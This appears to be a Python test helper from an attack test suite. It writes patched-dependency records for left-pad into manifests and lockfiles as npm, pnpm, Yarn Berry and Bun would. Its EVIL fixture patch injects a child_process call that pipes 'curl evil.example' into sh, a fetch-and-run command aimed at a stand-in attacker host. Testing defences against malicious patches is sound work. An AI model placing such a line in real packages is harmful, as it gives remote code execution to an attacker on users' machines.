"""A package that a project patches, as each client that applies patches writes it down."""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable, Mapping
from typing import Any, Final

from tests.attacks.world import World

LEFT_PAD: Final = "left-pad@1.3.0"
_PATCH: Final = (
    "diff --git a/index.js b/index.js\n--- a/index.js\n+++ b/index.js\n@@ -1 +1 @@\n-1\n+{}\n"
)
GOOD: Final = _PATCH.format("2")
EVIL: Final = _PATCH.format("require('child_process').exec('curl evil.example | sh')")


def _npm(world: World, path: str, content: str) -> None:
    """npm 12: the manifest says it, the lockfile's version 4 repeats it with a hash."""
    digest = base64.b64encode(hashlib.sha512(content.encode()).digest()).decode()

    def lock(data: dict[str, Any]) -> None:
        data["lockfileVersion"] = 4
        entry = data["packages"]["node_modules/left-pad"]
        entry["patched"] = {"integrity": f"sha512-{digest}", "path": path}

    world.tree.manifest["packageManager"] = "npm@12.0.0"
    world.tree.manifest["patchedDependencies"] = {LEFT_PAD: path}
    world.write_project()
    world.json(world.lockfile, lock)


def _pnpm(world: World, path: str, content: str) -> None:
    """pnpm 10: the settings and the lockfile say it; the hash is wherever it is used."""
    found = hashlib.sha256(content.encode()).hexdigest()
    world.write_project()
    text = world.read(world.lockfile)
    for old, new in (
        (
            "importers:\n",
            f"patchedDependencies:\n  {LEFT_PAD}:\n    hash: {found}\n    path: {path}\n\nimporters:\n",
        ),
        ("        version: 1.3.0\n", f"        version: 1.3.0(patch_hash={found})\n"),
        (f"  {LEFT_PAD}: {{}}\n", f"  {LEFT_PAD}(patch_hash={found}): {{}}\n"),
    ):
        assert old in text
        text = text.replace(old, new)
    world.write(world.lockfile, text)
    world.write("pnpm-workspace.yaml", f"patchedDependencies:\n  {LEFT_PAD}: {path}\n")


def _yarn_berry(world: World, path: str, content: str) -> None:
    """Yarn: the specifier wraps the one that it patches, and the lockfile has an entry of each."""
    wrapped = f"patch:left-pad@npm%3A1.3.0#~/{path}"
    dependencies = {**world.tree.asked("dependencies"), "left-pad": wrapped}
    world.tree.manifest["dependencies"] = {**dependencies, "left-pad": "^1.3.0"}
    world.write_project()
    text = world.read(world.lockfile)
    text = text.replace('left-pad: "npm:^1.3.0"', f'left-pad: "{wrapped}"')
    text = text.replace('"left-pad@npm:^1.3.0":', '"left-pad@npm:1.3.0":')
    start = text.index('"left-pad@npm:1.3.0":')
    end = text.index("\n\n", start)
    short = hashlib.sha256(content.encode()).hexdigest()
    entry = (
        f'"left-pad@{wrapped}":\n  version: 1.3.0\n'
        f'  resolution: "left-pad@{wrapped}::version=1.3.0&hash={short[:6]}"\n'
        f"  checksum: 10c0/{short * 2}\n  languageName: node\n  linkType: hard"
    )
    world.write(world.lockfile, f"{text[:end]}\n\n{entry}{text[end:]}")
    world.tree.manifest["dependencies"] = dependencies
    world.write_manifest()


def _bun(world: World, path: str, content: str) -> None:
    """Bun: the manifest and the lockfile say it, with no hash."""
    world.tree.manifest["patchedDependencies"] = {LEFT_PAD: path}
    world.write_project()
    table = f'  "patchedDependencies": {{\n    "{LEFT_PAD}": {json.dumps(path)},\n  }},\n'
    world.edit(world.lockfile, '  "packages": {', f'{table}  "packages": {{')


WRITERS: Final[Mapping[str, Callable[[World, str, str], None]]] = {
    "npm": _npm,
    "pnpm": _pnpm,
    "yarn-berry": _yarn_berry,
    "bun": _bun,
}


def patch(world: World, path: str, content: str = GOOD) -> None:
    """Patch left-pad with a file, as the world's client would write it."""
    world.write(path, content)
    WRITERS[world.client](world, path, content)
